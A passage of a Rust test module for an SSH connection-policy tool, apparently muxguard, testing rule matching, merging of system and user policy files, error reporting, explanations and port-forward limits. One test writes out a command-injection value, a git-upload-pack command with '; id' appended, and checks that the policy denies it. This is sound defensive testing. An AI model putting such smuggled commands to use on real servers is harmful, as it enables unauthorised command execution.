        assert_eq!(
            act(
                &p,
                &Request {
                    kind: RequestKind::Exec,
                    ..proxy
                }
            ),
            Action::Ask
        );

        // A kind-less deny rule still denies proxy as itself.
        let p = parse("[[rule]]\nname = \"no\"\naction = \"deny\"\n");
        assert_eq!(rule_name(&p.evaluate(&proxy)), "no");
    }

    #[test]
    fn proxy_is_denied_without_any_policy() {
        let set = PolicySet::default();
        let proxy = Request {
            kind: RequestKind::Proxy,
            ..req("h")
        };
        let d = set.decide(&proxy);
        assert_eq!(d.action, Action::Deny);
        assert!(matches!(d.decided_by, DecidedBy::ProxyNotListed { .. }));
        let d = set.decide(&req("h"));
        assert_eq!(d.action, Action::Ask);
        assert_eq!(d.decided_by, DecidedBy::Default { file: None });
        assert_eq!((d.system, d.user), (None, None));
    }

    // --- peers -------------------------------------------------------------

    #[test]
    fn rules_with_peers_apply_only_to_those_peers() {
        let p = parse(
            r#"
[[rule]]
name = "devs on build"
peers = ["group:devs"]
hosts = ["build-*"]
action = "allow"
[[rule]]
name = "devs nowhere else"
peers = ["group:devs"]
action = "deny"
"#,
        );
        let devs = vec!["devs".to_owned()];
        let dev = PeerAccount {
            uid: 1001,
            user: Some("bob"),
            gids: &[2000],
            groups: &devs,
        };
        assert_eq!(
            act(
                &p,
                &Request {
                    peer: dev,
                    ..req("build-1")
                }
            ),
            Action::Allow
        );
        assert_eq!(
            act(
                &p,
                &Request {
                    peer: dev,
                    ..req("db-1")
                }
            ),
            Action::Deny
        );
        // The owner is not in the group: neither rule is about them.
        assert_eq!(act(&p, &req("db-1")), Action::Ask);
        // Root in group devs is still not matched through the group.
        let root = PeerAccount {
            uid: 0,
            user: Some("root"),
            gids: &[0, 2000],
            groups: &devs,
        };
        assert_eq!(
            act(
                &p,
                &Request {
                    peer: root,
                    ..req("build-1")
                }
            ),
            Action::Ask
        );
    }

    #[test]
    fn peer_admission() {
        let user = parse(
            r#"
[[rule]]
name = "friends"
peers = ["1001", "alice", "group:devs", "group:3000"]
action = "ask"
"#,
        );
        let set = PolicySet {
            system: None,
            user: Some(user.clone()),
        };
        let devs = vec!["devs".to_owned()];
        assert!(
            set.admits_peer(1000, Some("me"), &[1000], NO_GROUPS, 1000),
            "owner"
        );
        assert!(set.admits_peer(1001, None, &[], NO_GROUPS, 1000), "by uid");
        assert!(
            set.admits_peer(1005, Some("alice"), &[], NO_GROUPS, 1000),
            "by name"
        );
        assert!(
            set.admits_peer(1006, Some("bob"), &[], &devs, 1000),
            "by group"
        );
        assert!(
            set.admits_peer(1007, Some("eve"), &[3000], NO_GROUPS, 1000),
            "by gid"
        );
        assert!(
            !set.admits_peer(1008, Some("eve"), &[100], NO_GROUPS, 1000),
            "unlisted"
        );
        assert!(
            !set.admits_peer(0, Some("root"), &[0, 3000], &devs, 1000),
            "root via group"
        );

        let root_listed = parse("[[rule]]\nname = \"r\"\npeers = [\"0\"]\naction = \"deny\"\n");
        let set2 = PolicySet {
            system: None,
            user: Some(root_listed),
        };
        assert!(
            set2.admits_peer(0, Some("root"), &[0], NO_GROUPS, 1000),
            "root by uid"
        );
        assert!(set.admits_any_peer() && set2.admits_any_peer());
        assert!(!PolicySet::default().admits_any_peer());

        assert!(
            !PolicySet::default().admits_peer(0, Some("root"), &[0], NO_GROUPS, 1000),
            "root without any policy"
        );
        assert!(PolicySet::default().admits_peer(1000, None, &[], NO_GROUPS, 1000));

        // A system file that lists peers is the ceiling.
        let sys = parse_sys("[[rule]]\nname = \"s\"\npeers = [\"group:devs\"]\naction = \"ask\"\n");
        let set = PolicySet {
            system: Some(sys),
            user: Some(user.clone()),
        };
        assert!(
            set.admits_peer(1006, Some("bob"), &[], &devs, 1000),
            "in both"
        );
        assert!(
            !set.admits_peer(1001, None, &[], NO_GROUPS, 1000),
            "user file only"
        );
        // A system file that lists nobody leaves it to the user.
        let sys = parse_sys("[defaults]\naction = \"ask\"\n");
        let set = PolicySet {
            system: Some(sys),
            user: Some(user),
        };
        assert!(set.admits_peer(1001, None, &[], NO_GROUPS, 1000));
    }

    // --- merging -------------------------------------------------------------

    fn defaults_only(file: &str, action: Action) -> Policy {
        Policy::parse(&format!("[defaults]\naction = \"{action}\"\n"), file).unwrap()
    }

    #[test]
    fn system_file_is_a_ceiling() {
        for s in Action::ALL {
            for u in Action::ALL {
                let set = PolicySet {
                    system: Some(defaults_only(SYS, s)),
                    user: Some(defaults_only(FILE, u)),
                };
                let d = set.decide(&req("h"));
                assert_eq!(d.action, s.max(u), "system {s}, user {u}");
                let from = if u > s { FILE } else { SYS };
                assert_eq!(
                    d.decided_by,
                    DecidedBy::Default {
                        file: Some(from.into())
                    }
                );
                assert_eq!(d.system.unwrap().action, s);
                assert_eq!(d.user.unwrap().action, u);
            }
        }
    }

    #[test]
    fn decision_reason_names_the_rule_and_place() {
        let set = PolicySet {
            system: Some(parse_sys(BUILD)),
            user: None,
        };
        let d = set.decide(&Request {
            remote_user: "root",
            ..req("build-1")
        });
        assert_eq!(
            d.reason(),
            "ask: rule \"ask for anything else on build hosts\" (/etc/muxguard/policy.toml:14)"
        );
    }

    #[test]
    fn settings_merge_takes_the_stricter_value() {
        let sys = parse_sys(
            r#"
[defaults]
remember = "5m"
prompt_timeout = "20s"
when_locked = "direct"
no_prompter = "allow"
audit_failure = "allow"
cooldown = "1m"
audit_log = "/var/log/muxguard/audit.jsonl"
"#,
        );
        let user = parse(
            r#"
[defaults]
remember = "1h"
prompt_timeout = "10s"
when_locked = "deny"
no_prompter = "direct"
audit_failure = "allow"
cooldown = "10s"
audit_log = "/tmp/mine.jsonl"
"#,
        );
        let s = PolicySet {
            system: Some(sys.clone()),
            user: Some(user),
        }
        .settings();
        assert_eq!(s.remember, Duration::from_secs(300));
        assert_eq!(s.prompt_timeout, Duration::from_secs(10));
        assert_eq!(s.when_locked, Fallback::Deny);
        assert_eq!(s.no_prompter, Fallback::Direct);
        assert_eq!(s.audit_failure, AuditFailure::Allow);
        assert_eq!(s.cooldown, Duration::from_secs(60));
        assert_eq!(
            s.audit_log,
            Some(PathBuf::from("/var/log/muxguard/audit.jsonl"))
        );

        // A value only one file sets is used as is; the rest are built in.
        let s = PolicySet {
            system: Some(sys),
            user: Some(parse("")),
        }
        .settings();
        assert_eq!(s.remember, Duration::from_secs(300));
        assert_eq!(s.no_prompter, Fallback::Allow);
        let s = PolicySet {
            system: None,
            user: Some(parse("")),
        }
        .settings();
        assert_eq!(s.remember, BUILTIN_REMEMBER);
        assert_eq!(s.no_prompter, BUILTIN_NO_PROMPTER);
        assert_eq!(s.no_prompter, Fallback::Deny);
    }

    #[test]
    fn builtin_defaults_without_any_file() {
        let s = PolicySet::default().settings();
        assert_eq!(s, PolicySet::builtin_defaults());
        assert_eq!(s.no_prompter, Fallback::Allow);
        assert_eq!(s.when_locked, Fallback::Deny);
        assert_eq!(s.audit_failure, AuditFailure::Deny);
        assert_eq!(s.prompt_timeout, Duration::from_secs(30));
    }

    /// A small deterministic generator for the property tests (no external
    /// crates): xorshift64*.
    struct Rng(u64);
    impl Rng {
        fn below(&mut self, n: usize) -> usize {
            self.0 ^= self.0 >> 12;
            self.0 ^= self.0 << 25;
            self.0 ^= self.0 >> 27;
            (self.0.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 33) as usize % n
        }
        fn pick<T: Copy>(&mut self, items: &[T]) -> T {
            items[self.below(items.len())]
        }
    }

    fn random_policy(rng: &mut Rng, file: &str) -> Policy {
        let mut text = String::new();
        if rng.below(2) == 0 {
            text += &format!("[defaults]\naction = \"{}\"\n", rng.pick(&Action::ALL));
        }
        for i in 0..rng.below(5) {
            text += &format!("[[rule]]\nname = \"r{i}\"\n");
            if rng.below(2) == 0 {
                let hosts = rng.pick(&[r#"["a*"]"#, r#"["*", "!b"]"#, r#"["b", "c"]"#]);
                text += &format!("hosts = {hosts}\n");
            }
            if rng.below(3) == 0 {
                let programs = rng.pick(&[r#"["/usr/bin/git"]"#, r#"["/usr/bin/*"]"#]);
                text += &format!("programs = {programs}\n");
            }
            if rng.below(3) == 0 {
                let kinds = rng.pick(&[r#"["exec"]"#, r#"["proxy"]"#, r#"["shell", "proxy"]"#]);
                text += &format!("kinds = {kinds}\n");
            }
            text += &format!("action = \"{}\"\n", rng.pick(&Action::ALL));
        }
        Policy::parse(&text, file).unwrap_or_else(|e| panic!("{e}\n{text}"))
    }

    #[test]
    fn merge_is_never_looser_than_either_file() {
        let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
        let programs = [
            None,
            Some(Path::new("/usr/bin/git")),
            Some(Path::new("/usr/bin/rsync")),
        ];
        for _ in 0..3000 {
            let system = random_policy(&mut rng, SYS);
            let user = random_policy(&mut rng, FILE);
            let r = Request {
                host_alias: rng.pick(&["a1", "b", "c"]),
                hostname: rng.pick(&["a1", "b", "c"]),
                program: rng.pick(&programs),
                kind: rng.pick(&RequestKind::ALL),
                ..req("x")
            };
            let both = PolicySet {
                system: Some(system.clone()),
                user: Some(user.clone()),
            };
            let d = both.decide(&r);
            let alone_s = PolicySet {
                system: Some(system),
                user: None,
            }
            .decide(&r)
            .action;
            let alone_u = PolicySet {
                system: None,
                user: Some(user),
            }
            .decide(&r)
            .action;
            assert!(d.action >= alone_s && d.action >= alone_u);
            assert_eq!(d.action, alone_s.max(alone_u));
            if r.kind == RequestKind::Proxy {
                assert!(
                    d.action != Action::Allow || matches!(d.decided_by, DecidedBy::Rule { .. })
                );
            }
            // An unknown program is never treated better than any known one.
            if r.program.is_none() {
                for p in programs.iter().flatten() {
                    let known = both
                        .decide(&Request {
                            program: Some(p),
                            ..r
                        })
                        .action;
                    assert!(
                        d.action >= known,
                        "unknown {:?} < {p:?} {known:?}",
                        d.action
                    );
                }
            }
        }
    }

    // --- errors ----------------------------------------------------------

    fn at(e: &PolicyError) -> (usize, usize) {
        (e.line, e.column)
    }

    #[test]
    fn error_positions_point_at_the_offending_text() {
        let cases: &[(&str, (usize, usize), &str)] = &[
            // syntax error: where the closing quote should be
            ("[defaults]\naction = \"ask\n", (2, 14), "expected"),
            (
                "[defaults]\nacton = \"ask\"\n",
                (2, 1),
                "unknown field `acton`",
            ),
            (
                "[[rule]]\nname = \"x\"\nhost = [\"a\"]\naction = \"allow\"\n",
                (3, 1),
                "unknown field `host`",
            ),
            ("top = 1\n", (1, 1), "unknown field `top`"),
            (
                "[defaults]\naction = \"alow\"\n",
                (2, 10),
                "unknown action \"alow\"",
            ),
            (
                "[defaults]\nremember = \"10 parsecs\"\n",
                (2, 12),
                "remember: \"10 parsecs\" is not a duration",
            ),
            (
                "[defaults]\ncooldown = 30\n",
                (2, 12),
                "invalid type: integer",
            ),
            (
                "[defaults]\nwhen_locked = \"ask\"\n",
                (2, 15),
                "when_locked: \"ask\" cannot be used here",
            ),
            (
                "[defaults]\nno_prompter = \"ask\"\n",
                (2, 15),
                "no_prompter: \"ask\"",
            ),
            (
                "[defaults]\nprompt_timeout = \"0s\"\n",
                (2, 18),
                "can never be answered",
            ),
            (
                "[defaults]\naudit_log = \"audit.jsonl\"\n",
                (2, 13),
                "not an absolute path",
            ),
            (
                "\n[[rule]]\nname = \"x\"\nkinds = [\"exec\", \"sehll\"]\naction = \"allow\"\n",
                (4, 18),
                "unknown kind \"sehll\"",
            ),
            (
                "[[rule]]\nname = \"x\"\nhosts = [\"a\", \"\"]\naction = \"allow\"\n",
                (3, 15),
                "empty pattern",
            ),
            (
                "[[rule]]\nname = \"x\"\nhosts = [\"a,b\"]\naction = \"allow\"\n",
                (3, 10),
                "its own string",
            ),
            (
                "[[rule]]\nname = \"x\"\nprograms = [\"git\"]\naction = \"allow\"\n",
                (3, 13),
                "full path",
            ),
            (
                "[[rule]]\nname = \"x\"\nhosts = [\"!a\", \"!b\"]\naction = \"allow\"\n",
                (3, 9),
                "only `!` patterns",
            ),
            (
                "[[rule]]\nname = \"x\"\nusers = []\naction = \"allow\"\n",
                (3, 9),
                "users is empty",
            ),
            (
                "[[rule]]\nname = \"x\"\npeers = [\"group devs\"]\naction = \"allow\"\n",
                (3, 10),
                "is not a uid",
            ),
            (
                "[[rule]]\nname = \"  \"\naction = \"allow\"\n",
                (2, 8),
                "name is empty",
            ),
            (
                "[[rule]]\nname = \"a\\nb\"\naction = \"allow\"\n",
                (2, 8),
                "control character",
            ),
            ("# c\n[[rule]]\naction = \"allow\"\n", (2, 1), "has no name"),
            (
                "[[rule]]\nname = \"x\"\nhosts = [\"a\"]\n",
                (1, 1),
                "rule \"x\" has no action",
            ),
            (
                "[[rule]]\nname = \"x\"\naction = \"maybe\"\n",
                (3, 10),
                "unknown action",
            ),
            (
                "[rule]\nname = \"x\"\n",
                (1, 1),
                "[[rule]] (double brackets)",
            ),
            (
                "[[rule]]\nname = \"dup\"\naction = \"allow\"\n\n[[rule]]\n  name = \"dup\"\naction = \"deny\"\n",
                (6, 10),
                "already used by the rule at line 1",
            ),
            // columns count characters, not bytes
            (
                "[[rule]]\nname = \"é\"\nhosts = [\"é\", \"\"]\naction = \"allow\"\n",
                (3, 15),
                "empty pattern",
            ),
        ];
        for (text, pos, reason) in cases {
            let e = err(text);
            assert_eq!(at(&e), *pos, "position for {text:?}: {e}");
            assert!(e.reason.contains(reason), "reason for {text:?}: {e}");
            assert_eq!(e.file, Path::new(FILE));
        }
    }

    #[test]
    fn error_display_is_file_line_column_reason() {
        let e = err("[defaults]\naction = \"alow\"\n");
        assert_eq!(
            e.to_string(),
            format!(
                "{FILE}:2:10: action: unknown action \"alow\"; use one of: allow, direct, ask, deny"
            )
        );
    }

    #[test]
    fn rule_line_is_the_header_line() {
        let p = parse(
            "# a comment\n\n[[rule]]\nname = \"a\"\naction = \"allow\"\n\n[[rule]]\nname = \"b\"\naction = \"deny\"\n",
        );
        let lines: Vec<_> = p
            .rules()
            .iter()
            .map(|r| (r.name(), r.line(), r.action()))
            .collect();
        assert_eq!(lines, [("a", 3, Action::Allow), ("b", 7, Action::Deny)]);
    }

    #[test]
    fn empty_file_is_a_valid_policy() {
        let p = parse("");
        assert!(p.rules().is_empty());
        assert_eq!(p.defaults(), &Defaults::default());
        assert_eq!(act(&p, &req("h")), BUILTIN_ACTION);
    }

    // --- explain -----------------------------------------------------------

    #[test]
    fn explain_names_both_files_and_the_ceiling() {
        let set = PolicySet {
            system: Some(parse_sys(
                "[defaults]\nprompt_timeout = \"20s\"\n[[rule]]\nname = \"ask on build\"\nhosts = [\"build-*\"]\naction = \"ask\"\n",
            )),
            user: Some(parse(BUILD)),
        };
        let text = set.explain(&req("build-1"));
        let lines: Vec<&str> = text.lines().collect();
        assert!(
            lines[0].starts_with("request: exec as deploy@build-1"),
            "{text}"
        );
        assert!(lines[0].contains("/usr/bin/git"), "{text}");
        assert_eq!(lines[1], "decision: ask");
        assert_eq!(
            lines[2],
            "  because of rule \"ask on build\" (/etc/muxguard/policy.toml:3)"
        );
        assert_eq!(
            lines[3],
            "system policy /etc/muxguard/policy.toml: ask, by rule \"ask on build\" (/etc/muxguard/policy.toml:3)"
        );
        assert!(lines[4].starts_with("user policy /home/u/.config/muxguard/policy.toml: allow, by rule \"git and rsync to build hosts\" ("), "{text}");
        assert!(text.contains("ceiling"), "{text}");
        assert!(text.contains("no answer within 20s means deny"), "{text}");
        assert!(text.contains("nobody can be asked it is deny"), "{text}");

        let text = PolicySet::default().explain(&req("h"));
        assert!(
            text.contains("system policy: none") && text.contains("user policy: none"),
            "{text}"
        );
        assert!(text.contains("the built-in default"), "{text}");
        assert!(text.contains("nobody can be asked it is allow"), "{text}");
    }

    const PERSONAL: &str = include_str!("../../policy/personal-desktop.toml");
    const SHARED: &str = include_str!("../../policy/shared-workstation.toml");
    const CI: &str = include_str!("../../policy/ci-box.toml");

    #[test]
    fn example_personal_desktop() {
        let p = parse(PERSONAL);
        assert_eq!(p.defaults().action, Some(Action::Ask));
        let git = Request {
            host_alias: "github.com",
            hostname: "github.com",
            remote_user: "git",
            ..req("x")
        };
        assert_eq!(act(&p, &git), Action::Allow);
        let curl = Request {
            program: Some(Path::new("/usr/bin/curl")),
            ..git
        };
        assert_eq!(act(&p, &curl), Action::Ask);
        let fwd = Request {
            kind: RequestKind::ForwardLocal,
            command: Some("db:5432"),
            ..req("prod-db")
        };
        assert_eq!(act(&p, &fwd), Action::Deny);
        let proxy = Request {
            kind: RequestKind::Proxy,
            command: None,
            ..req("lab-jump")
        };
        assert_eq!(act(&p, &proxy), Action::Ask);
        assert_eq!(
            act(
                &p,
                &Request {
                    host_alias: "other",
                    hostname: "other",
                    ..proxy
                }
            ),
            Action::Deny
        );
        assert_eq!(act(&p, &req("vault-1")), Action::Direct);
        assert_eq!(act(&p, &req("vault-staging")), Action::Ask);
    }

    #[test]
    fn example_shared_workstation() {
        let sys = parse_sys(SHARED);
        let s = PolicySet {
            system: Some(sys.clone()),
            user: None,
        }
        .settings();
        assert_eq!(
            s.audit_log,
            Some(PathBuf::from("/var/log/muxguard/%u.jsonl"))
        );
        assert_eq!(s.remember, Duration::from_secs(300));
        let build = vec!["build".to_owned()];
        let dev = PeerAccount {
            uid: 1200,
            user: Some("bob"),
            gids: &[3000],
            groups: &build,
        };
        let set = PolicySet {
            system: Some(sys.clone()),
            user: Some(parse(PERSONAL)),
        };
        assert!(set.admits_peer(dev.uid, dev.user, dev.gids, dev.groups, 1000));
        assert!(!set.admits_peer(1300, Some("carol"), &[100], NO_GROUPS, 1000));
        let sys_only = PolicySet {
            system: Some(sys),
            user: None,
        };
        assert_eq!(
            sys_only
                .decide(&Request {
                    peer: dev,
                    ..req("build-3")
                })
                .action,
            Action::Allow
        );
        assert_eq!(
            sys_only
                .decide(&Request {
                    peer: dev,
                    ..req("build-secrets")
                })
                .action,
            Action::Deny
        );
        // Another user's program is never known to the master; the rule is
        // about the remote command instead.
        let unknown = Request {
            peer: dev,
            program: None,
            ..req("build-3")
        };
        assert_eq!(sys_only.decide(&unknown).action, Action::Allow);
        let peer_runs = |command| {
            sys_only
                .decide(&Request {
                    command: Some(command),
                    ..unknown
                })
                .action
        };
        assert_eq!(
            peer_runs("rsync --server -logDtpre.iLsfxC . /srv/out"),
            Action::Allow
        );
        assert_eq!(
            peer_runs("git-upload-pack '/srv/app.git'; id"),
            Action::Deny
        );
        assert_eq!(peer_runs("id"), Action::Deny);
        let peer_shell = Request {
            kind: RequestKind::Shell,
            command: None,
            ..unknown
        };
        assert_eq!(sys_only.decide(&peer_shell).action, Action::Deny);
        let pay = Request {
            kind: RequestKind::StdioForward,
            command: Some("db:5432"),
            ..req("pay-db")
        };
        assert_eq!(set.decide(&pay).action, Action::Deny);
        // The user's own git rule is capped by the system's default ask.
        let git = Request {
            host_alias: "github.com",
            hostname: "github.com",
            remote_user: "git",
            ..req("x")
        };
        let d = set.decide(&git);
        assert_eq!(d.user.as_ref().map(|v| v.action), Some(Action::Allow));
        assert_eq!(d.action, Action::Ask);
    }

    #[test]
    fn example_ci_box() {
        let p = parse(CI);
        let set = PolicySet {
            system: None,
            user: Some(p.clone()),
        };
        assert_eq!(set.settings().no_prompter, Fallback::Deny);
        assert_eq!(set.settings().remember, Duration::ZERO);
        let rsync = Request {
            remote_user: "deploy",
            program: Some(Path::new("/usr/bin/rsync")),
            command: Some("rsync --server -logDtpre.iLsfxCIvu . /srv/www"),
            ..req("web-1.prod.example.com")
        };
        assert_eq!(act(&p, &rsync), Action::Allow);
        let ansible = Request {
            program: Some(Path::new("/usr/bin/python3.12")),
            kind: RequestKind::Subsystem,
            command: Some("sftp"),
            ..req("app-2.prod.example.com")
        };
        assert_eq!(act(&p, &ansible), Action::Allow);
        assert_eq!(
            act(
                &p,
                &Request {
                    host_alias: "db-1.prod.example.com",
                    hostname: "db-1.prod.example.com",
                    ..ansible
                }
            ),
            Action::Deny
        );
        assert_eq!(
            act(
                &p,
                &Request {
                    kind: RequestKind::Shell,
                    command: None,
                    ..rsync
                }
            ),
            Action::Deny
        );
        let exit = Request {
            kind: RequestKind::Control,
            program: Some(Path::new("/usr/bin/ssh")),
            command: None,
            ..req("any")
        };
        assert_eq!(act(&p, &exit), Action::Allow);
    }

    // --- ports and the sandbox's port sets --------------------------------

    #[test]
    fn ports_match_the_forward_local_port() {
        let p = parse(
            r#"
[defaults]
action = "deny"

[[rule]]
name = "dev tunnels"
kinds = ["forward-remote", "forward-local"]
ports = [8080, "9000-9009"]
action = "allow"
"#,
        );
        let fwd = |port| Request {
            kind: RequestKind::ForwardRemote,
            local_port: port,
            ..req("any")
        };
        assert_eq!(act(&p, &fwd(Some(8080))), Action::Allow);
        assert_eq!(act(&p, &fwd(Some(9005))), Action::Allow);
        assert_eq!(act(&p, &fwd(Some(9010))), Action::Deny);
        // A Unix-socket forward has no port, so `ports` cannot match it.
        assert_eq!(act(&p, &fwd(None)), Action::Deny);
    }

    #[test]
    fn bad_ports_are_reported_where_they_are() {
        let e = err("[[rule]]\nname = \"x\"\nports = [70000]\naction = \"allow\"\n");
        assert_eq!((e.line, e.column), (3, 10), "{e}");
        assert!(e.reason.contains("not a port"), "{e}");
        let e = err("[[rule]]\nname = \"x\"\nports = [\"90-80\"]\naction = \"allow\"\n");
        assert!(e.reason.contains("80-90"), "{e}");
        let e = err("[[rule]]\nname = \"x\"\nports = []\naction = \"allow\"\n");
        assert!(e.reason.contains("empty"), "{e}");
    }

    fn ports_of(set: &PolicySet, host: &str) -> ForwardPorts {
        set.forward_ports(&Destination {
            alias: host,
            hostname: host,
            user: "deploy",
        })
    }

    fn only(ports: &[u16]) -> Ports {
        Ports::Only(PortSet {
            ranges: ports.iter().map(|&p| (p, p)).collect(),
        })
    }

    #[test]
    fn forward_ports_follow_what_the_policy_can_allow() {
        // No file: everything is allowed, so any port.
        let none = PolicySet {
            system: None,
            user: None,
        };
        assert_eq!(ports_of(&none, "h").connect, Ports::Any);
        // The default (ask) covers forwards: any port.
        let open = PolicySet {
            system: None,
            user: Some(parse(
                "[[rule]]\nname = \"x\"\nkinds = [\"exec\"]\naction = \"allow\"\n",
            )),
        };
        assert_eq!(ports_of(&open, "h").bind, Ports::Any);
        // A deny default with port-limited rules: exactly those ports; a
        // rule for another host adds nothing.
        let limited = parse(
            r#"
[defaults]
action = "deny"

[[rule]]
name = "reverse"
kinds = ["forward-remote"]
ports = [8080]
action = "allow"

[[rule]]
name = "socks"
kinds = ["forward-dynamic"]
ports = [1080]
action = "ask"

[[rule]]
name = "elsewhere"
hosts = ["other"]
kinds = ["forward-remote"]
action = "allow"
"#,
        );
        let set = PolicySet {
            system: None,
            user: Some(limited.clone()),
        };
        assert_eq!(ports_of(&set, "h").connect, only(&[8080]));
        assert_eq!(ports_of(&set, "h").bind, only(&[1080]));
        assert_eq!(ports_of(&set, "other").connect, Ports::Any);
        // An unconditional deny for forwards ends the walk: the default
        // after it no longer opens every port.
        let walled = parse(
            r#"
[[rule]]
name = "tunnel"
kinds = ["forward-local"]
ports = [5432]
action = "allow"

[[rule]]
name = "no other forwards"
kinds = ["forward-local", "forward-remote", "forward-dynamic"]
action = "deny"
"#,
        );
        let set = PolicySet {
            system: None,
            user: Some(walled.clone()),
        };
        assert_eq!(ports_of(&set, "h").bind, only(&[5432]));
        assert_eq!(ports_of(&set, "h").connect, only(&[]));
        // Two files: a request must pass both, so the sets intersect.
        let system = PolicySet {
            system: Some(walled),
            user: Some(limited),
        };
        assert_eq!(ports_of(&system, "h").bind, only(&[]));
    }
}
